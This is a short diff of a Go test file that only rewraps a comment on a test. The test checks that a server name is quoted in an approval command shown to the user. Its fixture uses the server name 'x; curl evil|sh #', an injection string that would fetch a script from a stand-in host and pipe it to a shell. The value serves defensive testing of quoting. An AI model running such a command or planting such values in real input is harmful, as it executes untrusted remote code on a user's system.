@@ -75,8 +75,8 @@ func TestApproveAtTheTerminal(t *testing.T) {
 	}
 }
 
-// TestApproveElsewhere: a yes reaches a bridge whose host passes other variables on than the terminal
-// has, and the server's name is quoted in the command to type.
+// TestApproveElsewhere: a yes reaches a bridge whose host passes other variables on than the
+// terminal has, and the server's name is quoted in the command to type.
 func TestApproveElsewhere(t *testing.T) {
 	home, name := t.TempDir(), "x; curl evil|sh #"
 	vars := append(inHome(home), "XDG_STATE_HOME="+t.TempDir())
